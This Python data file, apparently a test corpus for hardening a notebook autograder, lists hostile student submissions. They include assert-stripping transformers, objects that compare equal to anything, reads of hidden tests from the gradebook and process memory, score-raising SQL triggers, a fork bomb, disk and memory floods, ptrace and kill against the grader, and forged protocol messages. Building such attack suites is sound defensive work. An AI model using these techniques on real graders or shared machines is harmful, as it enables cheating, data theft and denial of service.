'''The attacks: what a hostile student hands in, by family, and what it goes for.

Data only. `answers` replace solution cells, `own` cells of the student's come before them, `last` after everything.
`honest` is what the same answers earn without the attack: 0 where they hold nothing but stubs and tricks.
{course} in a cell is the path of a course folder with a gradebook in it.
'''

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field

ALL = ("double", "evens", "mean", "total", "zero_")


@dataclass(frozen=True)
class Attack:
    """One hostile submission. stock: whether it is tried against stock nbgrader too; patience_s: the grader's, with a
    cell and with a call, where what goes on as long as it is let need not go on as long as others may.
    """

    name: str
    family: str
    aim: str
    answers: dict[str, str] = field(default_factory=dict)
    own: tuple[str, ...] = ()
    last: tuple[str, ...] = ()
    honest: float = 0.0
    stock: bool = False
    patience_s: float | None = None


def _all(body: str) -> dict[str, str]:
    """Every exercise answered by a function of any arguments with this body."""
    return {name: f"def {name}(*args, **kwargs):\n    {body}" for name in ALL}


_LIAR = """
class Liar:
    def _yes(self, *args): return True
    def _self(self, *args): return self
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = _yes
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __truediv__ = __abs__ = __neg__ = __round__ = _self
    __getitem__ = __getattr__ = __call__ = _self
    def __len__(self): return 0
    def __iter__(self): return iter([self, self])
    def __float__(self): return 2.3333
    def __hash__(self): return 0
"""
_LIAR_NAMED = _LIAR + """
class Meta(type):
    def __eq__(cls, other): return True
    def __hash__(cls): return 0
    def __instancecheck__(cls, thing): return True
class Tensor(Liar, metaclass=Meta):
    @property
    def __class__(self): return torch.Tensor
"""
# Finds, from inside a call or a cell, all text that the process can reach.
_SEARCH = """
import gc, os, sys
def searched():
    found = []
    def look(values):
        for text in values:
            if isinstance(text, str) and "hidden" in text and "zq" in text and len(text) < 100_000:
                at = text.index("zq")
                found.append(text[max(0, at - 200): at + 300])
    for thing in gc.get_objects():
        try:
            if type(thing) is dict:
                look([*thing, *thing.values()])
            elif type(thing) in (list, tuple):
                look(list(thing))
            elif type(thing).__name__ == "function":
                look((*thing.__code__.co_consts, *thing.__code__.co_names))
        except Exception:
            pass
    return found
"""
_FORGE = """
import torchmarks.isolation.inside.handlers as handlers, msgspec
def forge(make):
    # Replaces the answers of the process, whatever the question.
    original = handlers.handle
    def handle(kind, user_ns, payload, reply):
        made = make(kind, payload)
        if made is None:
            return original(kind, user_ns, payload, reply)
        reply(made if isinstance(made, bytes) else msgspec.msgpack.encode(made))
    import gc
    for thing in gc.get_objects():  # the student's process holds the handler in an attribute
        if type(thing).__name__ == "Student":
            thing._handle = handle
fine = {"arguments": {}, "after": {}, "result": ["plain", "NoneType", None], "raised": None, "objects": [],
        "shared": [], "gradients": None, "backward_raised": None, "kept_memory": {}, "kept_grad": {},
        "left": {}, "printed": "", "warnings": [], "seconds": 0.0}
"""

SCORING = (
    Attack("asserts dropped by an input transformer", "scoring", "tests that assert nothing", own=(
        "get_ipython().input_transformers_post.append(lambda lines: [l for l in lines if not l.lstrip().startswith('assert')])",
    ), answers=_all("return None"), stock=True),
    Attack("asserts dropped by an AST transformer", "scoring", "tests that assert nothing", own=(
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Drop())",
    ), answers=_all("return None"), stock=True),
    Attack("run_cell patched to succeed", "scoring", "every cell a success", own=(
        "shell = get_ipython()\nold = type(shell).run_cell_async\n"
        "async def run_cell_async(self, raw_cell, *args, **kwargs):\n"
        "    return await old(self, 'pass', *args, **kwargs)\ntype(shell).run_cell_async = run_cell_async",
    ), stock=True),
    Attack("exceptions swallowed by set_custom_exc", "scoring", "no error output", own=(
        "get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)",
    ), stock=True),
    Attack("showtraceback silenced", "scoring", "no error output", own=(
        "get_ipython().showtraceback = get_ipython()._showtraceback = lambda *args, **kwargs: None",
    ), stock=True),
    Attack("compile replaced", "scoring", "tests that compile to nothing", own=(
        "import builtins\nold = builtins.compile\n"
        "def compile_(source, *args, **kwargs):\n"
        "    return old('pass' if isinstance(source, str) and 'assert' in source else source, *args, **kwargs)\n"
        "builtins.compile = compile_",
    ), answers=_all("return None")),
    Attack("names of the test's words taken", "scoring", "an `expect` that says yes", own=(
        "class Yes:\n    def __getattr__(self, name): return lambda *a, **k: self\n"
        "expect = observe = lambda *a, **k: Yes()\n"
        "import builtins\nfor name in ('abs', 'len', 'round', 'zip', 'float'): setattr(builtins, name, lambda *a, **k: Yes())",
    ), answers=_all("return None"), stock=True),
    Attack("pytest's way out: an exception that is no Exception", "scoring", "a test stopped without failing",
           answers=_all("raise SystemExit(0)"), stock=True),
    Attack("KeyboardInterrupt in a call", "scoring", "a test or a grader interrupted", answers=_all("raise KeyboardInterrupt")),
    Attack("GeneratorExit in a call", "scoring", "a test stopped without failing", answers=_all("raise GeneratorExit")),
    Attack("an exception named like the judge's", "scoring", "an error taken for a verdict", answers=_all(
        "raise type('CheckFailed', (Exception,), {'report': None, '__module__': 'torchmarks.checks.collecting'})('passed')")),
    Attack("StopIteration in a call", "scoring", "loops of a test that end early", answers=_all("raise StopIteration")),
    Attack("a student's AuthorError", "scoring", "an error that costs no points or stops the batch", answers=_all(
        "from torchmarks.errors import AuthorError; raise AuthorError('the test is wrong')")),
    Attack("a number at the end of a cell", "scoring", "points for the last value", answers={
        name: f"def {name}(*a): return None\n4.0" for name in ALL}),
    Attack("warnings made errors and errors made warnings", "scoring", "a test with another fate", own=(
        "import warnings, sys\nwarnings.filterwarnings('error')\n"
        "class Hostile(UserWarning):\n    def __str__(self): raise SystemExit\n    __qualname__ = '</div><script>'",
    ), answers=_all("import warnings; warnings.warn(Hostile()); return None")),
    Attack("right for the visible tests only", "scoring", "the hidden tests' points", answers={
        "double": "def double(x): return {2: 4}.get(x)", "evens": "def evens(xs): return xs if xs == [2] else None",
        "mean": "def mean(xs): return 4 if xs == [4, 4] else None",
        "total": "def total(t): return torch.tensor(2.) if t.tolist() == [1., 1.] else None",
        "zero_": "def zero_(t):\n    if t.shape == (1,): t.zero_()"}, honest=5.0),
    Attack("partial marks printed", "scoring", "output that reads as a score", answers=_all(
        "print('4.0'); import sys; sys.stdout.flush(); return None"), last=("print('✓ passed')\n4.0",)),
)

LYING = (
    Attack("equal to everything", "lying objects", "plain asserts", own=(_LIAR,), answers=_all("return Liar()"), stock=True),
    Attack("a Tensor by its word", "lying objects", "isinstance and the exact type", own=(_LIAR_NAMED,),
           answers=_all("return Tensor()"), stock=True),
    Attack("an int that is every number", "lying objects", "comparisons of a subclass of int", own=(
        "class Every(int):\n    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True\n"
        "    __sub__ = __rsub__ = __abs__ = lambda self, *other: self\n    __hash__ = int.__hash__",
    ), answers=_all("return Every(0)"), stock=True),
    Attack("a list that is every list", "lying objects", "comparisons of a subclass of list", own=(
        "class Every(list):\n    __eq__ = __contains__ = lambda self, other: True\n    __ne__ = lambda self, other: False",
    ), answers=_all("return Every()"), stock=True),
    Attack("a str that is every str", "lying objects", "comparisons of a subclass of str", own=(
        "class Every(str):\n    __eq__ = __lt__ = __le__ = lambda self, other: True\n    __hash__ = str.__hash__",
    ), answers=_all("return Every('x')")),
    Attack("a Tensor subclass whose functions lie", "lying objects", "torch functions on the result", own=(
        "class Agreeable(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        return True\n    __eq__ = lambda self, other: True",
    ), answers=_all("return torch.zeros(()).as_subclass(Agreeable)")),
    Attack("an array subclass whose functions lie", "lying objects", "numpy functions on the result", own=(
        "import numpy as np\nclass Agreeable(np.ndarray):\n    def __array_function__(self, *a, **k): return True\n"
        "    def __array_ufunc__(self, *a, **k): return True",
    ), answers=_all("return np.zeros(1).view(Agreeable)")),
    Attack("an endless iterable", "lying objects", "the grader's time and memory", own=(
        "class Endless:\n    def __iter__(self): return self\n    def __next__(self): return 'x' * 9_000",
    ), answers={"evens": "def evens(xs): return Endless()"}),
    Attack("an endless chain of objects", "lying objects", "recursion in the grader", answers=_all(
        "deep = []\n    for _ in range(100_000): deep = [deep]\n    return deep")),
    Attack("a repr that raises and a repr of megabytes", "lying objects", "the report", own=(
        "class Loud:\n    def __repr__(self): return 'zq' * 10_000_000\n    __str__ = __repr__",
    ), answers=_all("raise ValueError(Loud())")),
    Attack("values that compare to nothing", "lying objects", "nan where a comparison decides", answers={
        "mean": "def mean(xs): return float('nan')", "total": "def total(t): return torch.tensor(float('nan'))"}),
    Attack("random answers", "lying objects", "a lucky guess over many runs", answers={
        "evens": "import random\ndef evens(xs): return random.choice([[], [2], [1]]) if xs != [2] else None"}),
)

_LYING_NUMBERS = (
    Attack("a float whose minus says nothing is left", "lying objects", "checks with a tolerance", answers={
        "mean": "class F(float):\n    def __sub__(self, other): return 0.0\n"
                "def mean(xs):\n    return F({(4, 4): 4, (1, 2): 1.5, (1, 2, 4): 2.33333}.get(tuple(xs), 0))"},
           honest=1.0),
    Attack("a minus that tells what it is given", "lying objects", "expected values that go in", answers={
        "mean": "class Teller:\n    def __sub__(self, other): raise ValueError(f'{other}')\ndef mean(xs): return Teller()"}),
    Attack("a result of a kind of its own", "lying objects", "an error in the grader", own=(
        "import torch, numpy as np\nkinds = iter([torch.eye(2).to_sparse(), torch.empty(1 << 39, device='meta'), np.void(b'x'),\n"
        "    np.zeros(2, [('a', 'O')]), np.ma.masked_array([1], [1]), np.ndarray((3,), 'S0'), torch.nested.nested_tensor([torch.ones(2)]),\n"
        "    torch.quantize_per_tensor(torch.ones(2), .1, 0, torch.quint8), torch.empty(1 << 30, 1 << 30, 0)])",),
           answers=_all("import itertools; return list(kinds)[len(str(args)) % 9]")),
    *(
        Attack(f"a result of {dtype}", "lying objects", "an error in the grader: PyTorch computes nothing with it",
               answers=_all(f"import torch; return torch.tensor(3, dtype=torch.uint8).view(torch.{dtype})"))
        for dtype in ("bits8", "uint4", "int7", "float4_e2m1fn_x2")
    ),
    Attack("an argument of bits", "lying objects", "an error in the grader: PyTorch computes nothing with them",
           answers={"zero_": "def zero_(t):\n    t.data = torch.zeros(t.shape, dtype=torch.uint8).view(torch.bits8)"}),
)
LYING = (*LYING, *_LYING_NUMBERS)

READING = (
    Attack("tests on disk", "reading", "hidden tests beside the notebook or in the course", own=(
        "import glob, os\nfor folder in ('.', '..', '../..', '{course}', os.path.expanduser('~'), '/tmp', '/root', '/home'):\n"
        "    for path in glob.glob(folder + '/**/*', recursive=True)[:2000]:\n        try:\n"
        "            text = open(path, errors='replace').read(200_000)\n            if 'zqhid' in text: print(text)\n"
        "        except OSError: pass\nprint(os.path.exists('{course}'))",
    ), stock=True),
    Attack("hidden tests from the gradebook", "reading", "the source cells in gradebook.db", own=(
        "import sqlite3\ntry:\n    for row in sqlite3.connect('{course}/gradebook.db').execute('select source from source_cell'):\n"
        "        print(row)\nexcept Exception as error: print(type(error).__name__)",
    ), stock=True),
    Attack("history and In", "reading", "the source of cells that ran", last=(
        "print(In, get_ipython().history_manager.input_hist_raw, list(get_ipython().history_manager.get_range()))",
    ), stock=True),
    Attack("an eavesdropping input transformer", "reading", "the source of cells that run", own=(
        "def spy(lines):\n    print(*lines)\n    return lines\nget_ipython().input_transformers_post.append(spy)",
    ), stock=True),
    Attack("frames of the caller", "reading", "the source and names of whoever calls", own=(
        "import inspect, sys\ndef callers():\n    said, frame = [], sys._getframe(1)\n    while frame:\n"
        "        said += [frame.f_code.co_filename, sorted(frame.f_locals), sorted(frame.f_globals)[:50]]\n"
        "        try: said.append(inspect.getsource(frame))\n        except Exception: pass\n        frame = frame.f_back\n"
        "    return [s for s in map(str, said) if '2469135' in s or '77.06' in s or 'BEGIN HIDDEN' in s]",
    ), answers={name: f"def {name}(*a):\n    print(callers())\n    raise ValueError(callers())" for name in ("double", "mean", "evens")},
        stock=True),
    Attack("every object of the process", "reading", "hidden tests in memory", own=(_SEARCH, "print(searched())"),
           last=("print(searched())",), answers={"double": "def double(x):\n    raise ValueError(searched())"}),
    Attack("memory of the process", "reading", "hidden tests in /proc/self/mem and in the server's", own=(
        "import os, re\nfor pid in ('self', str(os.getppid()), '1'):\n    try:\n"
        "        for line in open(f'/proc/{{pid}}/maps').read().splitlines()[:400]:\n"
        "            if 'heap' in line or 'rw-p' in line:\n                low, high = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "                with open(f'/proc/{{pid}}/mem', 'rb', 0) as mem:\n                    mem.seek(low)\n"
        "                    data = mem.read(min(high - low, 1 << 24))\n"
        "                for hit in re.findall(rb'zqhidden' + rb'zq.{{0,80}}', data)[:3]: print(hit)\n"
        "    except OSError as error: print(pid, type(error).__name__)".replace("{{", "{").replace("}}", "}"),
    )),
    Attack("environment and command lines", "reading", "paths, secrets, that grading is going on", own=(
        "import os\nprint(sorted(os.environ))\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n"
        "        print(open(f'/proc/{pid}/cmdline', 'rb').read()[:300])",
    )),
    Attack("inputs carried out of a call", "reading", "hidden inputs printed by a later cell", own=(
        "import mmap, os\nshared = mmap.mmap(-1, 1 << 16)\nopen('heard', 'w').close()\nheard = open('heard', 'a')",
    ), answers={"double": "def double(x):\n    shared[:20] = repr(x).encode().ljust(20)\n    print(x, file=heard, flush=True)\n"
                "    return 0"}, last=("import time\ntime.sleep(.1)\nprint(shared[:20], open('heard').read())",)),
    Attack("a thread that reports later", "reading", "hidden inputs printed after the cells", own=(
        "import threading, time, mmap\nshared = mmap.mmap(-1, 4096)\ndef report():\n    while True:\n        time.sleep(.02)\n"
        "        if shared[:1] != b'\\0': print('HEARD', shared[:30])\nthreading.Thread(target=report, daemon=True).start()",
    ), answers={"double": "def double(x):\n    shared[:20] = repr(x).encode().ljust(20)\n    import time; time.sleep(.1)\n    return 0"}),
    Attack("a student's hidden-test markers", "reading", "a graded cell that confuses nbgrader and feedback", own=(
        "### BEGIN HIDDEN TESTS\nprint('mine')", "### END HIDDEN TESTS\n### BEGIN SOLUTION",
    ), answers={"double": "def double(x):\n    ### BEGIN HIDDEN TESTS\n    return 0\n    ### END HIDDEN TESTS"}),
    Attack("expected values by timing", "reading", "a side channel through the time of a call", answers={
        "double": "import time\ndef double(x):\n    time.sleep(.01 * (x > 0))\n    return 0"}),
)

def _carried(keep: str, kept: str, setup: str = "import os, socket, subprocess, sys") -> dict[str, str]:
    """Answers of which one keeps what it is given, by `keep(x)`, and another tells what `kept()` finds of it."""
    keeper = f"{setup}\n{keep}\n{kept}"
    return {
        "double": f"{keeper}\ndef double(x):\n    keep(x)\n    return x * 2 + (x == 1234567)",
        "evens": "def evens(*a):\n    raise ValueError('HEARD ' + str(kept()))",
    }


_SERVING = """s = socket.socket(socket.AF_UNIX); s.bind(chr(0) + 'kept'); s.listen(9)
for _ in range(9):
    c, _ = s.accept(); c.sendall(repr(x).encode()); c.close()"""
_ASKING = (
    "def kept():\n    s = socket.socket(socket.AF_UNIX); s.connect(chr(0) + 'kept'); return s.recv(1000)"
)
CARRYING = (
    Attack("inputs kept by a process that was forked twice", "reading", "what another exercise is tested with", answers=_carried(
        "def keep(x):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
        + textwrap.indent(_SERVING, " " * 12) + "\n        os._exit(0)\n    import time; time.sleep(.2)", _ASKING), honest=4.0),
    Attack("inputs kept by a program in a session of its own", "reading", "what another exercise is tested with", answers=_carried(
        f"def keep(x):\n    subprocess.Popen([sys.executable, '-c', f'import socket; x = {{x!r}}\\n' + {_SERVING!r}],\n"
        "        start_new_session=True)\n    import time; time.sleep(.3)", _ASKING), honest=4.0),
    *(
        Attack(f"inputs kept in a file in {place}", "reading", "what another exercise is tested with", answers=_carried(
            f"def keep(x): open({place + '/kept'!r}, 'a').write(repr(x) + ' ')", f"def kept(): return open({place + '/kept'!r}).read()"),
            honest=4.0)
        for place in (".", "/tmp", "/dev/shm")
    ),
    *(
        Attack(f"inputs kept in {what} of folders", "reading", "what another exercise is tested with", answers=_carried(
            f"def keep(x):\n    for place in everywhere():\n        try: {keep}\n        except OSError: pass",
            f"def kept(): return [place for place in everywhere() if {kept}] or sys.exit()",
            "import os, sys\ndef everywhere():\n    yield from ('/', '.', '..', '../..')\n    for place, folders, _ in os.walk('/'):\n"
            "        folders[:] = [f for f in folders if place.count('/') < 3 and f not in ('proc', 'sys', 'usr', 'lib')]\n"
            "        yield from (os.path.join(place, f) for f in folders)"), honest=4.0)
        for what, keep, kept in (
            ("times", "os.utime(place, (1234567, 1234567))", "os.stat(place).st_mtime == 1234567"),
            ("rights", "os.chmod(place, 0o716)", "os.stat(place).st_mode & 0o777 == 0o716"),
            ("attributes", "os.setxattr(place, 'user.kept', repr(x).encode())", "os.listxattr(place)"),
        )
    ),
)

REACHING = (
    Attack("the gradebook written", "reaching", "a higher score in gradebook.db", own=(
        "import sqlite3\ntry:\n    base = sqlite3.connect('{course}/gradebook.db')\n"
        "    base.execute('create trigger more after update on grade begin update grade set auto_score = 99 where id = new.id; end')\n    base.commit()\nexcept Exception as error:\n    print(error)",
    ), stock=True),
    Attack("files of the course overwritten", "reaching", "other submissions and the release", own=(
        "import os\nfor root, _, files in os.walk('{course}'):\n    for name in files:\n        open(os.path.join(root, name), 'w').write('gone')",
    )),
    Attack("the package overwritten", "reaching", "code of the grader itself", own=(
        "import torchmarks, torch, os\nfor module in (torchmarks, torch):\n    try:\n        open(module.__file__, 'a').write('\\n')\n"
        "        print('WRITTEN')\n    except OSError as error: print(type(error).__name__)",
    )),
    Attack("the network", "reaching", "a way out", own=(
        "import socket\nfor family, address in ((socket.AF_INET, ('127.0.0.1', 22)), (socket.AF_INET, ('1.1.1.1', 53)), (socket.AF_INET6, ('::1', 22))):\n"
        "    try:\n        socket.create_connection(address, 1)\n        print('CONNECTED')\n    except OSError as error: print(type(error).__name__)\n"
        "try:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('\\0/tmp/.X11-unix/X0')\n    print('CONNECTED')\nexcept OSError: pass",
    )),
    Attack("modules beside the notebook", "reaching", "a module of the student's loaded by the grader", own=(
        "for name in ('torchmarks', 'nbgrader', 'json', 'sitecustomize', 'conftest'):\n"
        "    open(name + '.py', 'w').write('import os; os.system(\"touch {course}/owned\")')",
    )),
    Attack("a module that a test would import", "reaching", "a name for another module", own=(
        "import sys, types\nfake = types.ModuleType('antigravity')\nfake.sum = lambda *a: 0\nmath = np = torch = fake\n"
        "sys.modules.update(math=fake, torch=fake, numpy=fake)",
    )),
)

REACHING = (
    *REACHING,
    Attack("sockets that no network namespace holds", "reaching", "the host of a virtual machine, by vsock", own=(
        "import socket\nfor family in {*range(3, 46)} - {socket.AF_INET6, socket.AF_NETLINK}:\n    for kind in (1, 2, 3, 5):\n"
        "        try:\n            socket.socket(family, kind)\n            print('CONNECTED', family)\n        except OSError: pass",
    )),
)

REACHING = (
    *REACHING,
    Attack("files that all read, changed by descriptor", "reaching", "Python broken for everybody who may only read it", own=(
        "import fcntl, os\nfd = os.open(os.__file__, os.O_RDONLY)\nstatus = os.fstat(fd)\n"
        "for step in (lambda: os.fchmod(fd, status.st_mode), lambda: os.utime(fd, ns=(status.st_atime_ns, status.st_mtime_ns)),\n"
        "             lambda: os.fchown(fd, -1, -1), lambda: os.chmod(os.__file__, status.st_mode), lambda: os.setxattr(fd, 'user.x', b''),\n"
        "             lambda: os.link(os.__file__, 'mine'), lambda: fcntl.ioctl(fd, 0x40086602, bytes(8)),\n"
        "             lambda: os.truncate(os.__file__, status.st_size)):\n"
        "    try:\n        step()\n        print('WRITTEN')\n    except OSError as error: print(type(error).__name__)",
    )),
    Attack("files opened for nothing, and cut off", "reaching", "the gradebook emptied by a call that neither reads nor writes", own=(
        "import os\nfor name in ('gradebook.db', 'release'):\n"
        "    try: print('WRITTEN', os.open('{course}/' + name, 3 | os.O_TRUNC))\n    except OSError as error: print(type(error).__name__)\n"
        "for root, _, files in os.walk('{course}'):\n    for name in files:\n"
        "        try: print('WRITTEN', os.open(os.path.join(root, name), 3 | os.O_TRUNC))\n        except OSError: pass",
    )),
    Attack("a lease on a file that others open", "reaching", "everybody's imports wait 45 s", own=(
        "import fcntl, os, turtledemo\nfor kind in (fcntl.F_WRLCK, fcntl.F_RDLCK):\n"
        "    try:\n        fcntl.fcntl(os.open(turtledemo.__file__, os.O_RDONLY), 1024, kind)\n        print('WRITTEN')\n"
        "    except OSError as error: print(type(error).__name__)",
    )),
    Attack("what all sessions have in common, used up", "reaching", "locks, requests and signals that others need", own=(
        "import ctypes, fcntl, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "try:\n    fcntl.flock(os.open(os.__file__, os.O_RDONLY), fcntl.LOCK_EX)\n    print('WRITTEN')\n"
        "except OSError as error: print(type(error).__name__)\n"
        "context = ctypes.c_ulong(0)\n"
        "if os.uname().machine == 'x86_64' and libc.syscall(206, 4096, ctypes.byref(context)) == 0: print('WRITTEN')\n"
        "timer, made = ctypes.c_void_p(), 0\nwhile made < 3000 and libc.timer_create(0, None, ctypes.byref(timer)) == 0: made += 1\n"
        "print('WRITTEN' if made >= 3000 else 'few')",
    )),
    Attack("datagrams to this machine", "reaching", "programs that listen on it", own=(
        "import socket\nfor kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):\n"
        "    try: one, other = socket.socketpair(socket.AF_UNIX, kind)\n    except OSError: continue\n"
        "    for name in ('/run/systemd/journal/socket', '/dev/log', '/run/docker.sock', '/var/run/postgresql/.s.PGSQL.5432'):\n"
        "        for step in (lambda: one.sendto(b'x', name), lambda: one.connect(name)):\n"
        "            try:\n                step()\n                print('CONNECTED', name)\n            except OSError: pass",
    )),
    Attack("processes of others, asked for", "reaching", "signals, memory and settings of the grader's processes", own=(
        "import os, resource, signal\nmine = {os.getpid()}\n"
        "def may(step):\n    try:\n        step()\n        return True\n    except (OSError, ValueError): return False\n"
        "ours = {1, os.getppid()} - mine\n"
        "for pid in ours | set(range(2, 30000)) - mine:\n"
        "    if may(lambda: os.kill(pid, 0)) and pid > 1: print('CONNECTED', pid)\n"
        "    if pid in ours and may(lambda: resource.prlimit(pid, resource.RLIMIT_CORE)): print('TRACED', pid)\n"
        "    if pid in ours and may(lambda: open(f'/proc/{pid}/environ', 'rb').read()): print('HEARD', pid)",
    )),
)

READING = (
    *READING,
    Attack("descriptors that were left open", "reading", "a file of the grader's that was open before the sandbox was made", own=(
        "import os, stat\nfor fd in range(3, 256):\n"
        "    try: mode = os.fstat(fd).st_mode\n    except OSError: continue\n"
        "    if not stat.S_ISSOCK(mode) and not stat.S_ISFIFO(mode): print('HEARD', fd, oct(mode))",
    )),
    Attack("folders of other sessions", "reading", "another student's files, by the folder that sessions lie in", own=(
        "import os\nplace = os.getcwd()\nfor _ in range(3):\n    place = os.path.dirname(place)\n"
        "    try: print('HEARD', os.listdir(place)) if 'torchmarks-' in place else None\n    except OSError: pass",
    )),
)

BREAKING = (
    Attack("a starved supervisor", "breaking", "limits that come too late", own=(
        "import ctypes, os\nlibc = ctypes.CDLL(None)\none = b'\\x01' + bytes(63)\n"
        "for call in ((203, 1, 8, one), (144, 1, 5, bytes(4)), (141, 0, 1, 19), (251, 1, 1, 3 << 13)):\n"
        "    if os.uname().machine == 'x86_64' and libc.syscall(*call) == 0: print('TRACED', call)",
    )),
    Attack("folders in folders without end", "breaking", "the supervisor's stack", own=(
        "import os\nhome = os.getcwd()\nfor _ in range(5000): os.mkdir('d'), os.chdir('d')\nos.chdir(home)",
    )),
    Attack("a call that is answered twice", "breaking", "the order of answers", answers=_all("import os; os.fork(); return 1")),
    Attack("the parent killed from a call", "breaking", "the snapshots of other exercises", answers=_all(
        "import os, signal; os.kill(os.getppid(), signal.SIGKILL)")),
    Attack("an error whose every word is a trap", "breaking", "whoever tells it", own=(
        "import os\nclass Trap(BaseException):\n    def __str__(self): raise SystemExit\n    __repr__ = __str__\n"
        "    __notes__ = property(lambda self: os._exit(3))\nraise Trap from Trap()",
    ), answers=_all("raise type('T', (Exception,), {'__str__': lambda self: exit()})")),
    Attack("magics", "breaking", "the shell of the notebook", own=("%%bash\nkill -9 $PPID", "%reset -f", "%debug", "breakpoint()", "input()")),
    Attack("exit", "breaking", "a batch that stops", own=("import os\nos._exit(0)",), stock=True),
    Attack("exit in a call", "breaking", "a test that ends without a verdict", answers=_all("import os; os._exit(0)"), stock=True),
    Attack("a segmentation fault in a call", "breaking", "a test that ends without a verdict",
           answers={"double": "def double(x):\n    import ctypes; ctypes.string_at(0)"}),
    Attack("an endless loop", "breaking", "the grader's time", own=("while True: pass",), patience_s=1.0),
    Attack("an endless call", "breaking", "the grader's time", patience_s=1.0, answers={"double": "def double(x):\n    while True: pass"}),
    Attack("a fork bomb", "breaking", "the machine", own=(
        "import os, time\ntry:\n    for _ in range(2000):\n        if os.fork() == 0:\n            time.sleep(60); os._exit(0)\nexcept OSError as error: print(error)",
    )),
    Attack("stray processes", "breaking", "processes that outlive the run", own=(
        "import os, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)'], start_new_session=True)\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        import time; time.sleep(600)\n    os._exit(0)",
    )),
    Attack("signals to everyone", "breaking", "the server, the grader", own=(
        "import os, signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nfor pid in (-1, 1, 2, os.getppid()):\n    try: os.kill(pid, signal.SIGTERM)\n    except OSError: pass",
    )),
    Attack("ptrace", "breaking", "the server's memory", own=(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor pid in (os.getppid(), 1):\n"
        "    print('TRACED' if libc.ptrace(16, pid, 0, 0) == 0 else 'refused')",
    )),
    Attack("a memory blow-up", "breaking", "the machine's memory", own=("x = []\nwhile True: x.append(bytearray(1 << 26))",)),
    Attack("an output flood", "breaking", "the grader's memory", own=("while True: print('spam' * 1000)",), patience_s=1.0),
    Attack("a flood of figures and metadata", "breaking", "the page", own=(
        "from IPython.display import display\nfor _ in range(2000): display({'text/html': 'x' * 1000, 'application/x': 'y' * 1000}, raw=True)",
    )),
    Attack("the disk filled", "breaking", "the machine's disk", own=(
        "try:\n    with open('big', 'wb') as f:\n        while True: f.write(bytes(1 << 20))\nexcept OSError as error: print(type(error).__name__)",
    )),
)

FORGING = (
    Attack("all that is asked is said to be fine", "forging", "observations without a call", own=(
        _FORGE + "forge(lambda kind, payload: fine if kind == 'observe' else None)",
    )),
    Attack("more answers than calls", "forging", "an answer to a call that comes later", own=(
        "import gc\nstudent = next(thing for thing in gc.get_objects() if type(thing).__name__ == 'Student')\nhonest = student._handle\n"
        "def thrice(kind, ns, payload, reply): honest(kind, ns, payload, lambda data: [reply(data) for _ in range(3)])\n"
        "student._handle = thrice",
    )),
    Attack("more names than were asked for", "forging", "an `expect` of the student's in the test", own=(
        _FORGE + "def names(kind, payload):\n    if kind != 'names': return None\n"
        "    proxy = {'kind': 'callable', 'number': 0, 'parameters': []}\n"
        "    return {name: proxy for name in ('expect', 'observe', 'torch', 'double', 'total', 'evens', 'mean', 'zero_')}\nforge(names)",
    )),
    Attack("a numpy name to be called", "forging", "numpy functions run by the grader", own=(
        _FORGE + "def names(kind, payload):\n    if kind != 'names': return None\n"
        "    return {name: {'kind': 'value', 'fact': ['plain', 'numpy.savez', '{course}/owned']}\n"
        "            for name in msgspec.msgpack.decode(payload)}\nforge(names)",
    )),
    Attack("modules of any name", "forging", "imports by the grader", own=(
        _FORGE + "def names(kind, payload):\n    if kind != 'names': return None\n"
        "    return {name: {'kind': 'module', 'module': name} for name in msgspec.msgpack.decode(payload)}\nforge(names)",
    )),
    Attack("facts that fit nothing", "forging", "an error in the grader", own=(
        _FORGE + "import itertools\nbad = itertools.cycle([['plain', 'numpy.int8', 1 << 62], ['tensor'], ['plain', 'int', msgspec.msgpack.Ext(4, b'9' * 2000)], 7, None,\n"
        "    ['items', 'dict', [['plain', 'int', 1]], [['items', 'list', [], None]]], ['array', 'numpy.ndarray', 'M8[foo]', [1], [1], True, b'', None, True]])\n"
        "forge(lambda kind, payload: {name: {'kind': 'value', 'fact': next(bad)} for name in msgspec.msgpack.decode(payload)}\n"
        "      if kind == 'names' else {'result': {'kind': 'value', 'fact': next(bad)}} if kind == 'operate' else dict(fine, result=next(bad)))",
    )),
    Attack("a shape of exabytes", "forging", "the grader's memory", own=(
        _FORGE + "huge = ['tensor', 'torch.Tensor', msgspec.msgpack.Ext(1, b'float32'), [1 << 39], 'meta', [1], 0, True, False, True, None, 0, b'', None, None, True]\n"
        "forge(lambda kind, payload: dict(fine, result=huge) if kind == 'observe' else\n"
        "      {name: {'kind': 'value', 'fact': huge} for name in msgspec.msgpack.decode(payload)} if kind == 'names' else None)",
    )),
    Attack("a message of a million lists", "forging", "the grader's time", own=(
        _FORGE + "forge(lambda kind, payload: b'\\xdd\\x00\\x10\\x00\\x00' + b'\\x90' * (1 << 20))",
    )),
    Attack("a message nested without end", "forging", "the grader's stack", own=(
        _FORGE + "forge(lambda kind, payload: b'\\x91' * 3_000_000)",
    )),
    Attack("a message beyond the limit", "forging", "the grader's memory", own=(
        "import gc, os, socket, struct\nfor thing in gc.get_objects():\n    if type(thing).__name__ == 'Student':\n"
        "        line = thing._sock\nline.sendall(struct.pack('>I', (1 << 32) - 1) + b'x' * 100)",
    )),
    Attack("nonsense on the line", "forging", "the grader's reader", own=(
        "import gc\nfor thing in gc.get_objects():\n    if type(thing).__name__ == 'Student':\n        thing._sock.sendall(bytes(range(256)) * 10)",
    )),
    Attack("a pickle on the line", "forging", "code run by whoever unpickles", own=(
